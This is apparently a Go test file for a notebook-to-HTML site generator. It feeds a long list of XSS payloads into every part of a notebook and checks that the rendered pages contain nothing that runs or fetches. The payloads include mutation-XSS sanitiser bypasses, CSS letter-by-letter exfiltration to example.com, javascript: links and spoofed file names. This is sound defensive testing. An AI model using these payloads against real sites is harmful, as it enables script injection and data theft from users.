package site

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"downhill/kernelext/nbformat"

	"golang.org/x/net/html"
)

// payloads is what people try. Each is put everywhere a notebook can hold text; window.pwned must stay undefined and no
// address of example.com may be fetched.
var payloads = []string{
	`<script>window.pwned=1</script>`,
	`<ScRiPt src=https://example.com/x.js></sCrIpT>`,
	`<scr<script>ipt>window.pwned=1</script>`,
	`<img src=x onerror=window.pwned=1>`,
	`<img src="x" onerror="window.pwned=1" style="position:fixed;inset:0;background:url(https://example.com/a)">`,
	`<img src=https://example.com/a.png>`,
	`<img src=//example.com/a.png>`,
	`<img src="\\example.com\a.png">`,
	`<img srcset="https://example.com/a.png 1x">`,
	`<svg onload=window.pwned=1>`,
	`<svg><script>window.pwned=1</script></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=1</script><rect width="9" height="9"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><rect width="9" height="9"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:window.pwned=1"><text y="9">x</text></a></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="window.pwned=1"/></foreignObject></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><image href="https://example.com/a.png" width="9" height="9"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><use href="https://example.com/a.svg#x"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" values="javascript:window.pwned=1"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://example.com/a.css);*{display:none}</style></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><style>@media (prefers-color-scheme:dark){#a .b{fill:#000}} body{display:none}</style></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><style>@media (prefers-color-scheme:dark){.cell .c0{fill:#fff}}</style></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg" id="r"><style>@media (prefers-color-scheme:dark){.cell .c0{fill:#fff}}</style></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><style>@media (prefers-color-scheme:dark){#a .b{fill:url(//example.com)}}</style></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://example.com/a)" width="9" height="9"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(&#34;//example.com/a#b&#34;)" width="9" height="9"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg" style="position:fixed;inset:0"><rect width="9" height="9"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><title><img src=x onerror=window.pwned=1></title></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><desc>&lt;/desc>&lt;img src=x onerror=window.pwned=1></desc></svg>`,
	`<!DOCTYPE svg [<!ENTITY x "<script>window.pwned=1</script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:script>window.pwned=1</h:script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>`,
	`<math href="javascript:window.pwned=1">x</math>`,
	`<iframe src="javascript:window.pwned=1"></iframe>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<object data="https://example.com/x.swf"></object><embed src="https://example.com/x.swf">`,
	`<link rel=stylesheet href=https://example.com/a.css><style>@import "https://example.com/a.css"</style>`,
	`<meta http-equiv=refresh content="0;url=https://example.com">`,
	`<base href="https://example.com/">`,
	`<form action=https://example.com><button formaction="javascript:window.pwned=1">go</button><input name=q></form>`,
	`<form name=body><input id=documentElement></form><a id=querySelector name=getElementById>x</a>`,
	`<a href="javascript:window.pwned=1">x</a>`,
	"<a href=\"java\tscript:window.pwned=1\">x</a>",
	`<a href=" &#14; javascript:window.pwned=1">x</a>`,
	`<a href="data:text/html,<script>window.pwned=1</script>">x</a>`,
	`<a href="vbscript:x" ping="https://example.com">x</a>`,
	`<a href="#" style="position:fixed;inset:0;z-index:99">x</a>`,
	`<div style="background:url(javascript:window.pwned=1);width:expression(window.pwned=1)" class="banner">x</div>`,
	`<div style="background-image:url('https://example.com/a')">x</div>`,
	`<p id=dh-main class="maths" data-root="https://example.com/">x</p>`,
	`<details ontoggle=window.pwned=1 open>x</details><input autofocus onfocus=window.pwned=1>`,
	`<video src=https://example.com/a poster=https://example.com/b autoplay></video><audio src=//example.com/a autoplay>`,
	`<table background="https://example.com/a"><tr><td background="//example.com/b">x</table>`,
	`<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
	`<template><script>window.pwned=1</script></template><textarea></textarea><img src=x onerror=window.pwned=1>`,
	`</div></article></main></body></html><script>window.pwned=1</script>`,
	`--></style></script></title></textarea><script>window.pwned=1</script>`,
	"[x](javascript:window.pwned=1) ![x](https://example.com/a.png) <javascript:window.pwned=1>",
	"[x](JaVaScRiPt&colon;window.pwned=1) [y]: javascript:window.pwned=1",
	"![x](attachment:a.png) ![x](file:///etc/passwd) ![x](../../secret.png)",
	`![x](\\(example.com/a.png\\)) <img src="\\(example.com/a.png\\)"> ![x]($javascript:x$) [x](java$script:window.pwned=1$)`,
	"# <img src=x onerror=window.pwned=1> [x](javascript:window.pwned=1) {onclick=x}",
	"```<script>\nwindow.pwned=1\n```",
	"```\" onmouseover=\"window.pwned=1\nx\n```",
	`$\href{javascript:window.pwned=1}{x}$ $\includegraphics{https://example.com/a.png}$`,
	`$\htmlData{x=1}{y} \html@mathml{}{} \url{javascript:window.pwned=1}$ $$\def\x{\x\x}\x$$`,
	"$</span><script>window.pwned=1</script>$",
	"\uE0000\uE001<script>window.pwned=1</script>\uE0009999\uE001",
	"\x1b]8;;javascript:window.pwned=1\x1b\\x\x1b]8;;\x1b\\ \x1b[38;2;1;1;1;\"onclick=x\x1bm\x1b[<script>",
	"\u202e</script><script>window.pwned=1</script>\u2028window.pwned=1",
	`{{.}} {{template "head"}} <%= 1 %> ${window.pwned=1}`,
	`"><img src=x onerror=window.pwned=1>`,
	`' onmouseover='window.pwned=1`,
	// What sanitisers have been passed by: markup that turns into another when it is read a second time.
	`<svg></p><style><a id="</style><img src=x onerror=window.pwned=1>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.pwned=1>`,
	`<svg><annotation-xml encoding="text/html"><style><img src=x onerror=window.pwned=1></style></annotation-xml></svg>`,
	`<math><annotation-xml encoding="text/html"><p><script>window.pwned=1</script></annotation-xml></math>`,
	`<svg><desc><noscript><p title="</noscript><script>window.pwned=1</script>"></desc></svg>`,
	`<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=window.pwned=1>">x</a>`,
	`<xmp><p title="</xmp><img src=x onerror=window.pwned=1>"></xmp><plaintext><noembed></noembed><script>window.pwned=1</script>`,
	`<a title="&#0;&quot;><img src=x onerror=window.pwned=1>" alt='` + "`" + `><script>window.pwned=1</script>'>x</a>`,
	`<!--><img src=x onerror=window.pwned=1>--> <![CDATA[><script>window.pwned=1</script>]]> <?x ><script>window.pwned=1</script>?>`,
	`<img/src="x"/onerror=window.pwned=1><svg/onload=window.pwned=1><p/onclick=window.pwned=1>x</p>`,
	"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'><image href='https://example.com/a.png'/></svg>\">",
	`<a href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg'>&lt;script>window.pwned=1&lt;/script>&lt;/svg>">x</a>`,
	`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:window.pwned=1"><rect width="9" height="9"/></a></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'>&lt;script>window.pwned=1&lt;/script>&lt;/svg>#x"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="window.pwned=1"/><rect width="9" height="9"><set attributeName="href" to="javascript:window.pwned=1"/></rect></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><filter id="f"><feImage href="https://example.com/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:u\72l(https://example.com/a);mask:image-set('https://example.com/b' 1x)" width="9" height="9" cursor="url(//example.com/c),auto"/></svg>`,
	// Sheets that tell what is on a page, letter by letter.
	`<style>input[value^=a]{background:url(https://example.com/a)}@font-face{font-family:x;src:url(https://example.com/f)}main{font-family:x}</style>`,
	`<p style="background:image-set('https://example.com/a' 1x);list-style-image:url(https://example.com/b);content:url(//example.com/c)">x</p>`,
	`<p style="color:red;background-color:u\72l(https://example.com/a);width:calc(1px*expression(window.pwned=1));font-size:900000px;white-space:pre">x</p>`,
	`<link rel="prefetch dns-prefetch preconnect" href="https://example.com"><source srcset="https://example.com/a"><picture><source srcset="//example.com/b"><img src=x></picture>`,
	`<input type=image src=https://example.com/a formaction=https://example.com><isindex action=javascript:window.pwned=1><keygen autofocus onfocus=window.pwned=1>`,
	`<marquee onstart=window.pwned=1>x</marquee><body onload=window.pwned=1 background=https://example.com/a><frameset onload=window.pwned=1>`,
	`<div popover id=x onbeforetoggle=window.pwned=1>x</div><button popovertarget=x>y</button><dialog open><form method=dialog action=//example.com>z</form></dialog>`,
	`<div><template shadowrootmode=open><script>window.pwned=1</script><slot></slot></template></div>`,
	`$\htmlStyle{background:url(https://example.com/a)}{x} \htmlClass{bar}{x} \htmlId{dh-main}{x} \href{data:text/html,<script>window.pwned=1</script>}{y}$`,
	`$\text{<img src=x onerror=window.pwned=1>} \unicode{x3c} \style{position:fixed}{x} \require{html} \class{bar}{x} \cssId{dh-main}{x} \rule{9999em}{9999em}$`,
	"\x1b]0;window.pwned=1\a\x1b[999999999;1H\x1b[?1049h\x1bP0;1|x\x1b\\\x1b_Gf=100;<script>\x1b\\\x1b[31;<img src=x onerror=window.pwned=1>m",
	strings.Repeat("onerror", 2000) + " " + strings.Repeat("\u0300", 2000) + strings.Repeat("\U0001F468\u200D", 500),
	strings.Repeat("<div>", 3000) + `<img src=x onerror=window.pwned=1>`,
	strings.Repeat("[", 5000) + strings.Repeat("$a", 3000) + strings.Repeat("`", 999),
}

// hostileNotebook puts a payload into every place of a notebook.
func hostileNotebook(t *testing.T, payload string) *nbformat.Notebook {
	t.Helper()
	raw := func(v any) json.RawMessage {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	display := func(data map[string]any) nbformat.Output {
		o := nbformat.Output{Type: nbformat.DisplayData, Data: map[string]json.RawMessage{}}
		for mime, v := range data {
			o.Data[mime] = raw(v)
		}
		return o
	}
	nb := nbformat.New()
	md := nbformat.NewCell(nbformat.Markdown, payload+"\n\n# Title "+payload+"\n\n## Goals\n\n- "+payload+"\n\n| a |\n|---|\n| "+payload+" |\n\n[x](#cell-id="+url.PathEscape(payload)+")")
	md.ID = payload
	code := nbformat.NewCell(nbformat.Code, "%%"+payload+"\n"+payload)
	code.ID = payload
	if err := code.Metadata().Set("tags", []string{payload, "parameters"}); err != nil {
		t.Fatal(err)
	}
	code.SetOutputs([]nbformat.Output{
		{Type: nbformat.Stream, Name: "stdout", Text: payload},
		{Type: nbformat.Stream, Name: "stderr", Text: payload},
		{Type: nbformat.Stream, Name: payload, Text: payload},
		display(map[string]any{"text/html": payload}),
		display(map[string]any{"text/markdown": payload}),
		display(map[string]any{"text/latex": payload}),
		display(map[string]any{"text/plain": payload}),
		display(map[string]any{"image/svg+xml": payload}),
		display(map[string]any{"image/png": payload}),
		display(map[string]any{"image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" id="` + payload + `"/>`,
			figureMIME: map[string]any{"caption": payload, "alt": payload, "id": payload}}),
		display(map[string]any{"image/png": "iVBORw0KGgo=", figureMIME: map[string]any{"caption": payload, "alt": payload}}),
		display(map[string]any{framesMIME: map[string]any{"caption": payload, "alt": payload, "id": payload, "play": true, "close": "</svg>",
			"open": `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">`, "back": payload, "states": []string{payload, payload}, "notes": []string{payload},
			"sliders": []any{map[string]any{"label": payload, "values": []string{payload, "b"}}}}}),
		display(map[string]any{tableMIME: map[string]any{"caption": payload, "head": []string{payload}, "rows": [][]string{{payload}}}}),
		display(map[string]any{checkMIME: map[string]any{"kind": "claim", "id": payload, "statement": payload, "verdict": payload,
			"problem": payload, "tests": []any{map[string]any{"what": payload, "got": payload, "want": payload, "expected": payload,
				"hint": payload, "refuses": []any{map[string]any{"label": payload, "value": payload}}}}}}),
		{Type: nbformat.Error, EName: payload, EValue: payload, Traceback: []string{payload}},
	})
	nb.Cells = []*nbformat.Cell{md, code}
	// Attachments have no setter, for nobody writes them; they come with the file.
	doc, err := json.Marshal(map[string]any{"cell_type": "markdown", "metadata": map[string]any{}, "source": "![a](attachment:a.png)",
		"attachments": map[string]any{"a.png": map[string]any{"image/svg+xml": payload, "image/png": payload}}})
	if err != nil {
		t.Fatal(err)
	}
	with, err := nbformat.Parse([]byte(`{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[` + string(doc) + `]}`))
	if err != nil {
		t.Fatal(err)
	}
	nb.Cells = append(nb.Cells, with.Cells...)
	return nb
}

func hostileSite(t *testing.T, dir string) {
	t.Helper()
	var pages []Page
	for i, payload := range payloads {
		name := fmt.Sprintf("%02d.ipynb", i)
		if i%10 == 0 {
			name = fmt.Sprintf(`%02d "><img src=x onerror=window.pwned=1> javascript:x#?&.ipynb`, i)
		}
		if i%10 == 5 { // shows as …bpyni.exe, or as nothing at all
			name = fmt.Sprintf("%02d \u202eexe.\u2066\u200b\ufeff%s.ipynb", i, strings.Repeat("long", 45))
		}
		pages = append(pages, Page{Path: name, Notebook: hostileNotebook(t, payload), Failed: i%2 == 0, Cell: 2, Message: payload})
	}
	if err := Write(dir, `A <b>title</b> & "more"</title><script>window.pwned=1</script>`, pages); err != nil {
		t.Fatal(err)
	}
}

func TestHostileNotebooksAreHarmless(t *testing.T) {
	dir := t.TempDir()
	hostileSite(t, dir)
	files, err := filepath.Glob(filepath.Join(dir, "*.html"))
	if err != nil || len(files) != len(payloads)+2 {
		t.Fatalf("%d pages: %v", len(files), err)
	}
	for _, file := range files {
		page, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, fault := range faults(string(page)) {
			t.Errorf("%s: %s", filepath.Base(file), fault)
		}
	}
	search, err := os.ReadFile(filepath.Join(dir, "assets/search.js"))
	if err != nil || strings.Contains(string(search), "<script") {
		t.Errorf("the search index holds markup: %v", err)
	}
}

// The examination itself must see what it is there to see.
func TestFaultsAreSeen(t *testing.T) {
	for _, bad := range []string{
		`<script>x</script>`, `<script src=https://example.com/x.js></script>`, `<img src=x onerror=y>`, `<img src=//example.com/a>`,
		`<a href=" javascript:x">`, `<iframe></iframe>`, `<p style="position:fixed">`, `<p style="background:url(x)">`,
		`<svg><script>x</script></svg>`, "<pre>\u202ex</pre>", `<svg><image href="https://e/x"/></svg>`, `<svg><style>*{display:none}</style></svg>`,
		`<link rel=stylesheet href=https://e/x>`, `<meta http-equiv=refresh>`, `<base href=x>`, `<form>`, `<p id=dh-main>`, `<rect fill="url(//e)">`,
	} {
		if len(faults(bad)) == 0 {
			t.Errorf("%s passes", bad)
		}
	}
}

var (
	ourScripts = regexp.MustCompile(`^(\.\./)*assets/(theme|site|frames|katex/katex\.min)\.js$`)
	ourSheets  = regexp.MustCompile(`^(\.\./)*assets/(site|katex/katex\.min)\.css$`)
	pagePlaces = strings.Fields(`html head title meta link script body a header div input button nav details summary ol ul li main b code
		article h1 h2 h3 h4 h5 h6 p span pre section table caption thead tbody tfoot tr th td br em strong i figure figcaption img blockquote
		u s b i del ins sub sup small mark abbr cite dfn q samp var col colgroup use svg g path rect text title desc style circle line polyline polygon defs hr del kbd center font dl dt dd`)
	ourIDs = regexp.MustCompile(`^(dh-(main|results|claims|settled)|cell-\d+)$`)
)

// faults lists everything in a page that could run, fetch, or pose as the page's own.
func faults(page string) []string {
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return []string{err.Error()}
	}
	var found []string
	ids := map[string]bool{}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			found = append(found, elementFaults(n, ids)...)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
	if main := regexp.MustCompile(`(?m)^(<main |</main>|</body>|</html>)`).FindAllString(page, -1); strings.HasPrefix(page, "<!DOCTYPE") && len(main) != 4 {
		found = append(found, fmt.Sprintf("the frame of the page is broken: %q", main))
	}
	return found
}

func elementFaults(n *html.Node, ids map[string]bool) (found []string) {
	fault := func(format string, args ...any) {
		found = append(found, fmt.Sprintf("<%s> ", n.Data)+fmt.Sprintf(format, args...))
	}
	value := func(key string) string { v, _ := attr(n, key); return v }
	if !slices.Contains(pagePlaces, n.Data) {
		fault("has no place here")
	}
	switch n.Data {
	case "script":
		if !ourScripts.MatchString(value("src")) || n.FirstChild != nil {
			fault("is not ours: %q %q", value("src"), words(n))
		}
	case "pre":
		if strings.ContainsAny(words(n), "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") {
			fault("turns text around")
		}
	case "link":
		if !ourSheets.MatchString(value("href")) && value("href") != "data:," {
			fault("is not ours: %q", value("href"))
		}
	case "meta":
		if v := value("http-equiv"); v != "" && v != "Content-Security-Policy" {
			fault("http-equiv=%q", v)
		}
	case "style":
		if !regexp.MustCompile(`^(@media screen[^{]*\{(:root\S+ #dh-\S+( \.[\w-]+){1,2}\{[a-z\-]+:#\w+;?\})*\})*$`).MatchString(words(n)) {
			fault("says %q", words(n))
		}
	}
	for _, a := range n.Attr {
		val := strings.ToLower(strings.Map(func(r rune) rune {
			if r <= ' ' {
				return -1
			}
			return r
		}, a.Val))
		switch key := strings.ToLower(a.Key); {
		case strings.HasPrefix(key, "on"), key == "srcdoc", key == "formaction", key == "ping", key == "srcset", key == "background", key == "name" && n.Data != "meta":
			fault("has %s=%q", key, a.Val)
		case key == "href" && n.Data == "a":
			if scheme, _, ok := strings.Cut(val, ":"); ok && !strings.ContainsAny(scheme, "/#?.") && !slices.Contains([]string{"http", "https", "mailto"}, scheme) {
				fault("leads to %q", a.Val)
			}
		case (key == "href" || key == "src") && !slices.Contains([]string{"a", "script", "link"}, n.Data):
			if !strings.HasPrefix(val, "data:image/") && !strings.HasPrefix(val, "#dh-") && (strings.Contains(val, ":") || strings.HasPrefix(val, "/") || strings.Contains(val, "\\") || strings.Contains(val, "..")) {
				fault("fetches %q", a.Val)
			}
		case key == "style" && (strings.Contains(val, "url(") || strings.Contains(val, "position") || strings.Contains(val, "expression")):
			fault("is styled %q", a.Val)
		case key == "data-frames" && n.Data == "figure", key == "data-notebook": // data for our script, which makes images and text of it
		case strings.Contains(val, "url(") && !strings.HasPrefix(val, "url(#dh-") && key != "content" && key != "alt" && key != "title" && key != "href" && key != "src" && key != "aria-label":
			fault("has %s=%q", key, a.Val)
		case key == "id":
			if ids[a.Val] || strings.HasPrefix(a.Val, "dh-") && !ourIDs.MatchString(a.Val) && !regexp.MustCompile(`^dh-(f\d+|thumb-[\w\-]+)-`).MatchString(a.Val) || a.Val == "dh-main" && n.Data != "main" {
				fault("takes the id %q", a.Val)
			}
			ids[a.Val] = true
		}
	}
	return found
}

// Whatever a notebook says, no piece of a page made of it can run, fetch or pose.
func FuzzPieces(f *testing.F) {
	for _, payload := range payloads {
		f.Add(payload)
	}
	f.Fuzz(func(t *testing.T, text string) {
		p := &page{}
		pieces := []string{string(p.prose.cell(text, nil)), string(streamHTML("stderr", text)), cellHTML(text), string(sentenceHTML(text))}
		if root := fragment(text); root != nil {
			links{}.tidy(root)
			pieces = append(pieces, markup(root))
		}
		if svg, err := inlineSVG(text, "dh-f1-"); err == nil {
			pieces = append(pieces, svg)
		}
		for i, piece := range pieces {
			if found := faults("<body>" + piece); found != nil {
				t.Errorf("piece %d: %q: %s", i, piece, found)
			}
		}
	})
}
